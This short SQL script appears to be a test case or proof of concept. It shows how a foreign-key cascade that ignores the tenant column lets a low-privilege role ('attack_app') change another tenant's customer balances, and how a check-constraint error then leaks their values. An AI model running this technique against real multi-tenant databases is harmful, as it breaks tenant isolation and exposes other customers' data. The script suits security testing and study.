-- as: superuser
-- A cascade by a foreign key without the tenant changes another tenant's row, and an error quotes it.
SET row_security = off;
ALTER TABLE shop.customers OWNER TO attack_root;
CREATE TABLE play.codes (code int PRIMARY KEY);
INSERT INTO play.codes SELECT balance FROM shop.customers;
GRANT ALL ON play.codes TO attack_app;
ALTER TABLE shop.customers ADD FOREIGN KEY (balance) REFERENCES play.codes ON UPDATE CASCADE, ADD CHECK (balance > 0);
RESET row_security;
UPDATE play.codes SET code = -code WHERE code > 987650000;
SET ROLE attack_app;
UPDATE play.codes SET code = -code WHERE code > 987650000;
